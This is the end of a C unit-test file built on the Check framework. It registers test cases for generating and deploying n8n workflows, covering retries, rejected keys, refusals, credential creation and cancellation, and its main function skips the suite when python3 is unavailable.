	tcase_add_test(tc, a_hostile_graph_is_refused_with_pointers);
	tcase_add_test(tc, a_rejected_key_is_fatal);
	tcase_add_test(tc, a_rate_limit_is_retried_and_errors_only_at_the_end);
	tcase_add_test(tc, server_errors_are_retried);
	tcase_add_test(tc, a_refusal_is_an_error_with_the_refusal);
	tcase_add_test(tc, bad_payloads_and_missing_workflows_are_fatal);
	tcase_add_test(tc, a_cancel_between_steps_ends_in_error);
	tcase_add_test(tc, deploy_to_n8n_goes_live_once);
	tcase_add_test(tc, credentials_are_created_in_n8n_from_the_sealed_secret);
	tcase_add_test(tc, a_missing_credential_is_an_error);
	tcase_add_test(tc, builder_failures_retry_then_error);
	tcase_add_test(tc, a_rejected_builder_key_is_fatal);
	tcase_add_test(tc, deploy_through_the_builder_api);
	tcase_add_test(tc, generate_then_deploy_end_to_end);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	test_database_url();
	if (!fake_python_available()) {
		fprintf(stderr, "python3 not found: fakes cannot run, skipped\n");
		return 77;
	}
	return ck_run_suite(make_suite());
}
